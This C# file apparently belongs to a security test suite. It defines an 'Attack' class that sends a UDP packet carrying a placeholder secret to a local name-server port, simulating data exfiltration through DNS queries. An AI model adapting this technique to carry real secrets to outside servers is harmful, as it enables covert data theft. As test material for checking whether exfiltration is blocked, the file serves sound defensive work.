namespace Hostile.Attacks.Network;

public sealed class AsksNames : Attack
{
    public override string Title => "sends a question to a name server, and data with it";

    public override async Task<string?> RunAsync(HttpContext context, Target target)
    {
        using var client = new System.Net.Sockets.UdpClient();
        await client.SendAsync("a secret in a name"u8.ToArray(), "127.0.0.1", target.NamesPort);
        return "reached: sent";
    }
}
